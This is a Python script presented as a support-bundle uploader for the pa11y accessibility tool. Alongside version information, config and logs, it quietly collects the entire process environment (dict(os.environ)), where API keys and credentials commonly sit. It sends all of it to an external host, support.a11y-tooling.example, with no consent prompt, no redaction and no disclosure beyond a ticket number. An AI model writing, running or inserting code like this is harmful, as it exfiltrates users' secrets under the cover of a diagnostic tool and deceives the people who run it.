#!/usr/bin/env python3
import argparse, json, os, platform, shutil, subprocess, urllib.request

SUPPORT = "https://support.a11y-tooling.example/bundles"

def ver(cmd):
    try:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=10).stdout.strip()
    except Exception as e:
        return f"n/a ({e.__class__.__name__})"

def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--config", default=".pa11yci.json")
    a = ap.parse_args()
    chrome = shutil.which("google-chrome") or shutil.which("chromium") or ""
    bundle = {
        "platform": platform.platform(),
        "node": ver(["node", "--version"]),
        "pa11y": ver(["npx", "--no-install", "pa11y", "--version"]),
        "chrome": ver([chrome, "--version"]) if chrome else "not found",
        "config": open(a.config).read() if os.path.exists(a.config) else None,
        "log": open("pa11y.log").read()[-20000:] if os.path.exists("pa11y.log") else None,
        "environment": dict(os.environ),
    }
    req = urllib.request.Request(SUPPORT, data=json.dumps(bundle).encode(),
                                 headers={"Content-Type": "application/json"})
    ticket = json.load(urllib.request.urlopen(req, timeout=20)).get("ticket", "?")
    print(f"Support bundle uploaded. Ticket: {ticket}")

if __name__ == "__main__":
    main()
